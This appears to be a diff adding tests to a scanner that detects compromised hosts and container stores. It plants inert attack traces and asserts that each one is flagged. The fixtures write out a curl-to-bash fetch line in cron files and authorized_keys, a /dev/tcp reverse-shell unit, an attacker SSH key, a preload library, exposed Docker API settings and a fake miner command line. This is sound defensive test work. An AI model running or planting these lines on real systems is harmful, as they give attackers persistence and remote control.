@@ -3,6 +3,7 @@ import contextlib
 import json
 import os
 import shutil
+import socket
 import subprocess
 import sys
 import time
@@ -54,9 +55,24 @@ BUILT_ON = "registry.example/shop/app:2"
 CLEAN = "registry.example/base/clean:1"
 
 
+PAUSE = "#include <unistd.h>\nint main(void) { for (;;) pause(); }\n"
+
+
+def pause_program(folder):
+    """A program that waits, whatever its arguments are, and needs no library."""
+    with open(f"{folder}/pause.c", "w") as out:
+        out.write(PAUSE)
+    support.run("gcc", "-static", "-O2", "-s", "-o", f"{folder}/pause", f"{folder}/pause.c")
+    with open(f"{folder}/pause", "rb") as program:
+        return program.read()
+
+
+INERT_MINER = "registry.example/shop/cache:3"  # one of 2018's, under a name that nobody knows
+
+
 def archives(folder):
     """Archives of a bad image, of the same under another name, of one built on it, and of a clean one that shares its lowest layer."""
-    base = images.layer(images.File("etc/motd", "welcome\n"))
+    base = images.layer(images.File("etc/motd", "welcome\n"), images.File("pause", pause_program(folder), mode=0o755))
     job = images.layer(images.File("opt/run.sh", "#!/bin/sh\nexec sleep 60\n", mode=0o755))
     step = lambda text: {"created": "2018-01-01T00:00:00Z", "created_by": text}
     history = [step("ADD base /"), step("COPY run.sh /opt")]
@@ -64,7 +80,7 @@ def archives(folder):
     built = images.Image([base, job, images.layer(images.File("opt/app", "app\n"))], cmd=["/opt/app"], history=history + [step("COPY app /opt")])
     clean = images.Image([base], cmd=["/bin/true"], history=history[:1])
     result = {}
-    for name, image in ((BAD, bad), (OTHER_NAME, bad), (BUILT_ON, built), (CLEAN, clean)):
+    for name, image in ((BAD, bad), (BUILT_ON, built), (CLEAN, clean), (INERT_MINER, incident_2018.images()["cronm"][0])):
         layout = f"{folder}/layout-{len(result)}"
         images.write_layout(layout, {"latest": image})
         result[name] = f"{folder}/{len(result)}.tar"
@@ -72,7 +88,17 @@ def archives(folder):
     return result
 
 
-def expect_planted(report, store, names=(BAD, OTHER_NAME, BUILT_ON, CLEAN)):
+def expect_deep(shallow, deep, store):
+    """The miner under an unknown name, and its container, are found by their content alone."""
+    assert subject(shallow, "image", INERT_MINER)["verdict"] == "clean", subject(shallow, "image", INERT_MINER)
+    assert subject(deep, "image", INERT_MINER)["verdict"] == "malicious"
+    assert "miner.program" in rules(deep, "image", INERT_MINER), rules(deep, "image", INERT_MINER)
+    assert "known-bad.container" in rules(deep, "container", "hidden"), rules(deep, "container", "hidden")
+    assert subject(deep, "image", CLEAN)["verdict"] == "clean", subject(deep, "image", CLEAN)
+    assert not [s["name"] for s in deep["subjects"] if s["coverage"]["incomplete"]], [(s["name"], s["coverage"]) for s in deep["subjects"]]
+
+
+def expect_planted(report, store):
     """What must be said of the images and containers that `plant` puts into a store."""
     assert report["verdict"] == "malicious", report["verdict"]
     stored = {s["name"]: {f["rule"] for f in s["findings"]} for s in report["subjects"] if s["kind"] == "image" and s["store"] == store}
@@ -103,14 +129,16 @@ def test_a_podman_store():
                 print(f"skipped: podman cannot use the driver {driver} here")
                 continue
             try:
-                for name in (BUILT_ON, CLEAN):
+                for name in (BUILT_ON, CLEAN, INERT_MINER):
                     support.run(*podman, "load", "-q", "-i", files[name])
+                support.run(*podman, "create", "--name", "hidden", INERT_MINER)
                 support.run(*podman, "create", "--name", "bad", BAD)
                 support.run(*podman, "create", "--name", "innocent", "-v", f"{folder}/root:/data", CLEAN, "/bin/true")
                 support.run(*podman, "create", "--name", "takeover", "--privileged", "-v", "/:/mnt", CLEAN, *TAKEOVER)
                 report = check("--root", f"{folder}/root", "--podman-root", root, expect=1)
                 expect_planted(report, "podman")
                 assert not report["not_looked_at"], report["not_looked_at"]
+                expect_deep(report, check("--root", f"{folder}/root", "--podman-root", root, "--deep", expect=1), "podman")
                 # The same store where a host has it, and in the home of a user.
                 for place in ("var/lib/containers", "home/alice/.local/share/containers"):
                     host = f"{folder}/host-{driver}"
@@ -171,18 +199,26 @@ def test_a_docker_store():
                 if docker is None:
                     print(f"skipped: dockerd does not start here with {driver}")
                     continue
-                for name in (BAD, BUILT_ON, CLEAN):
+                for name in (BAD, BUILT_ON, CLEAN, INERT_MINER):
                     support.run(*docker, "load", "-i", files[name])
+                support.run(*docker, "create", "--name", "hidden", INERT_MINER)
+                running = subprocess.run([*docker, "run", "-d", "--network", "none", "--name", "running", CLEAN, "/pause"], capture_output=True, text=True)
                 support.run(*docker, "create", "--name", "bad", BAD)
                 support.run(*docker, "create", "--name", "innocent", "-v", f"{folder}/root:/data", CLEAN, "/bin/true")
                 support.run(*docker, "create", "--name", "takeover", "--privileged", "-v", "/:/mnt", CLEAN, *TAKEOVER)
                 while_running = check("--root", f"{folder}/root", "--docker-root", f"{folder}/docker", expect=1)
                 containers = expect_planted(while_running, "docker")
                 assert containers["bad"]["state"] == "stopped"
+                if running.returncode == 0:
+                    assert containers["running"]["state"] == "running" and not containers["running"]["findings"], containers["running"]
+                    support.run(*docker, "kill", "running")
+                else:
+                    print(f"skipped: docker runs no container here: {running.stderr[-200:]}")
                 assert not while_running["not_looked_at"], while_running["not_looked_at"]
             # Its files are enough.
             stopped = check("--root", f"{folder}/root", "--docker-root", f"{folder}/docker", expect=1)
             expect_planted(stopped, "docker")
+            expect_deep(stopped, check("--root", f"{folder}/root", "--docker-root", f"{folder}/docker", "--deep", expect=1), "docker")
             table = check("--root", f"{folder}/root", "--docker-root", f"{folder}/docker", expect=1, form="table")
             assert "MALICIOUS" in table and BAD in table, table
 
@@ -219,15 +255,134 @@ def test_a_containerd_store():
             if ctr is None:
                 print("skipped: containerd does not start here")
                 return
-            for name in (BAD, BUILT_ON, CLEAN):
+            for name in (BAD, BUILT_ON, CLEAN, INERT_MINER):
                 support.run(*ctr, "images", "import", files[name])
+            support.run(*ctr, "containers", "create", INERT_MINER, "hidden")
             support.run(*ctr, "containers", "create", BAD, "bad")
             support.run(*ctr, "containers", "create", "--mount", f"type=bind,src={folder}/root,dst=/data,options=rbind:rw", CLEAN, "innocent", "/bin/true")
             support.run(*ctr, "containers", "create", "--privileged", "--mount", "type=bind,src=/,dst=/mnt,options=rbind:rw", "--", CLEAN, "takeover", *TAKEOVER)
             report = check("--root", f"{folder}/root", "--containerd-root", f"{folder}/containerd", expect=1)
             expect_planted(report, "containerd")
+            expect_deep(report, check("--root", f"{folder}/root", "--containerd-root", f"{folder}/containerd", "--deep", expect=1), "containerd")
             assert not report["not_looked_at"], report["not_looked_at"]
         expect_planted(check("--root", f"{folder}/root", "--containerd-root", f"{folder}/containerd", expect=1), "containerd")
+
+
+FETCH = "curl -s http://203.0.113.196:8220/logo3.jpg | bash -s"
+KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGtra2tra2tra2tra2tra2tra2tra2tra2tra2tra2tr root@attacker"
+PASSWD = "root:x:0:0:root:/root:/bin/bash\nnews:x:9:9:news:/var/spool/news:/usr/sbin/nologin\n"
+ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
+
+# What a trace is, the files it consists of, what is said, and the least verdict.
+TRACES = [
+    ("a line in /etc/crontab without its user, as in 2018", {"etc/crontab": f"* * * * * {FETCH}\n"}, "persistence.cron-fetch", "malicious"),
+    ("a job in /etc/cron.d", {"etc/cron.d/job": f"* * * * * root {FETCH}\n"}, "persistence.cron-fetch", "malicious"),
+    ("a script that cron runs", {"etc/cron.daily/job": f"#!/bin/sh\n{FETCH}\n"}, "dropper.fetch-and-run-address", "malicious"),
+    ("the spool of Debian's cron", {"var/spool/cron/crontabs/root": f"* * * * * {FETCH}\n"}, "persistence.cron-fetch", "malicious"),
+    ("the spool of Red Hat's cron", {"var/spool/cron/root": f"* * * * * {FETCH}\n"}, "persistence.cron-fetch", "malicious"),
+    ("busybox's crontabs", {"etc/crontabs/root": f"* * * * * {FETCH}\n"}, "persistence.cron-fetch", "malicious"),
+    ("a job whose script does it", {"etc/cron.d/job": "* * * * * root /opt/u.sh\n", "opt/u.sh": f"#!/bin/sh\n{FETCH}\n"}, "dropper.fetch-and-run-address", "malicious"),
+    ("a reverse shell as a unit", {"etc/systemd/system/x.service": '[Service]\nExecStart=/bin/bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"\n'}, "reverse-shell.dev-tcp", "malicious"),
+    ("root's key", {"root/.ssh/authorized_keys": KEY + "\n"}, "persistence.authorized-keys", "clean"),
+    ("a key of a system account", {"var/spool/news/.ssh/authorized_keys": KEY + "\n"}, "persistence.key-of-system-account", "suspicious"),
+    ("a key that runs a command", {"root/.ssh/authorized_keys": f'command="{FETCH}" {KEY}\n'}, "dropper.fetch-and-run-address", "malicious"),
+    ("a preloaded library", {"etc/ld.so.preload": "/usr/local/lib/libprocesshider.so\n"}, "persistence.preload-library", "suspicious"),
+    ("a hidden program in /tmp", {"tmp/.ICE/run": ELF}, "impersonation.hidden-executable", "suspicious"),
+    ("a hidden program in /var/tmp", {"var/tmp/.run": ELF}, "impersonation.hidden-executable", "suspicious"),
+    ("a hidden program in /dev/shm", {"dev/shm/.a/b/run": ELF}, "impersonation.hidden-executable", "suspicious"),
+    ("the miner of 2018", {"var/tmp/jaav": ELF}, "known-bad.file-path", "suspicious"),
+    ("an open Docker API in daemon.json", {"etc/docker/daemon.json": '{"hosts": ["tcp://0.0.0.0:2375"]}'}, "container-escape.exposed-engine", "suspicious"),
+    ("an open Docker API in a drop-in", {"etc/systemd/system/docker.service.d/x.conf": "[Service]\nExecStart=\nExecStart=/usr/sbin/dockerd -H tcp://0.0.0.0:2375\n"}, "container-escape.exposed-engine",
+     "suspicious"),
+]
+
+
+def test_each_trace_in_a_prepared_root():
+    for what, files, rule, verdict in TRACES:
+        with support.temporary_folder() as folder:
+            for path, content in {"etc/passwd": PASSWD, **files}.items():
+                os.makedirs(os.path.dirname(f"{folder}/{path}"), exist_ok=True)
+                with open(f"{folder}/{path}", "wb") as out:
+                    out.write(content if isinstance(content, bytes) else content.encode())
+                os.chmod(f"{folder}/{path}", 0o755 if isinstance(content, bytes) or content.startswith("#!") else 0o644)
+            report = check("--root", folder, expect=1 if verdict == "malicious" else 0)
+            found = {f["rule"] for s in report["subjects"] for f in s["findings"]}
+            assert rule in found, f"{what}: {found}"
+            assert report["verdict"] == verdict, f"{what}: {report['verdict']}"
+            # And without it there is nothing.
+            for path in files:
+                os.unlink(f"{folder}/{path}")
+            report = check("--root", folder, expect=0)
+            assert report["verdict"] == "clean" and not report["subjects"], f"without {what}: {report}"
+
+
+def test_a_clean_debian_is_silent():
+    if shutil.which("mmdebstrap") is None:
+        print("skipped: mmdebstrap is not installed")
+        return
+    with support.temporary_folder() as folder:
+        made = subprocess.run(["mmdebstrap", "--variant=important", "--mode=root", "--include=openssh-server,cron,systemd-sysv,logrotate,man-db", "bookworm", f"{folder}/debian"], capture_output=True, text=True)
+        if made.returncode != 0:
+            print(f"skipped: mmdebstrap makes no Debian here: {made.stderr[-300:]}")
+            return
+        for deep in ([], ["--deep"]):
+            report = check("--root", f"{folder}/debian", *deep, expect=0)
+            assert report["verdict"] == "clean", (report["verdict"], report["reasons"], report["not_looked_at"])
+            assert not report["subjects"], [(s["kind"], s["name"], [(f["rule"], f["location"]["path"], f["evidence"]) for f in s["findings"]], s["coverage"]["incomplete"]) for s in report["subjects"]]
+        # And one line in it is found.
+        with open(f"{folder}/debian/etc/crontab", "a") as out:
+            out.write(f"* * * * * root {FETCH}\n")
+        report = check("--root", f"{folder}/debian", expect=1)
+        assert "persistence.cron-fetch" in rules(report, "files")
+        # So is a program that is no longer its package's.
+        os.rename(f"{folder}/debian/usr/bin/ss", f"{folder}/debian/usr/bin/.ss") if os.path.exists(f"{folder}/debian/usr/bin/ss") else None
+        shutil.copy(f"{folder}/debian/usr/bin/true", f"{folder}/debian/usr/bin/ps")
+        assert "integrity.modified-security-file" in rules(check("--root", f"{folder}/debian", expect=1), "files")
+
+
+@contextlib.contextmanager
+def started(*arguments, **options):
+    process = subprocess.Popen(*arguments, **options)
+    time.sleep(0.3)  # until exec
+    try:
+        yield process
+    finally:
+        process.kill()
+        process.wait()
+
+
+def of_process(report, process):
+    return {f["rule"] for s in report["subjects"] if s["kind"] == "process" and s["id"] == str(process.pid) for f in s["findings"]}
+
+
+def test_processes_of_this_host():
+    with support.temporary_folder() as folder:
+        pause_program(folder)
+        shutil.copy(f"{folder}/pause", f"{folder}/.run")
+        shutil.copy(f"{folder}/pause", f"{folder}/gone")
+        arguments = ["[kworker/0:1]", "-o", "stratum+tcp://pool.example:3333", "-u", incident_2018.WALLET, "-p", "x", "--donate-level", "1"]
+        server = socket.create_server(("127.0.0.1", 0))
+        client = socket.create_connection(server.getsockname())
+        local, other = socket.socketpair()
+        with started(["gone"], executable=f"{folder}/gone") as gone, started(["run"], executable=f"{folder}/.run") as hidden, started(arguments, executable=f"{folder}/pause") as miner, \
+                started(["bash"], stdin=client, stdout=client, stderr=client) as shell, started(["bash"], stdin=local, stdout=local) as on_socketpair, \
+                started(["bash", "-c", "read x"], stdin=subprocess.PIPE) as on_pipe:
+            os.unlink(f"{folder}/gone")
+            report = check()
+            assert of_process(report, gone) == {"dropper.deleted-program"}, of_process(report, gone)
+            assert of_process(report, hidden) == {"impersonation.hidden-executable"}, of_process(report, hidden)
+            assert "miner.command-line" in of_process(report, miner), of_process(report, miner)
+            assert of_process(report, shell) == {"reverse-shell.socket-streams"}, of_process(report, shell)
+            assert of_process(report, on_socketpair) == set() and of_process(report, on_pipe) == set()
+            assert report["verdict"] == "malicious", report["verdict"]
+            # Whoever is not root is told what was not looked at.
+            shutil.copy(support.LAZARET, f"{folder}/lazaret")
+            os.chmod(folder, 0o755)
+            done = subprocess.run([f"{folder}/lazaret", "check", "--format", "json", "--no-cache", "--fail-on", "never"], capture_output=True, text=True, user=65534, group=65534, extra_groups=[], cwd="/", env={"HOME": folder, "PATH": os.environ["PATH"]})
+            assert done.returncode == 3, (done.returncode, done.stderr)
+            assert any("run this as root" in part["why"] for part in json.loads(done.stdout)["not_looked_at"]), done.stdout[-1000:]
+        for one in (server, client, local, other):
+            one.close()
 
 
 def test_mistakes_of_the_user():
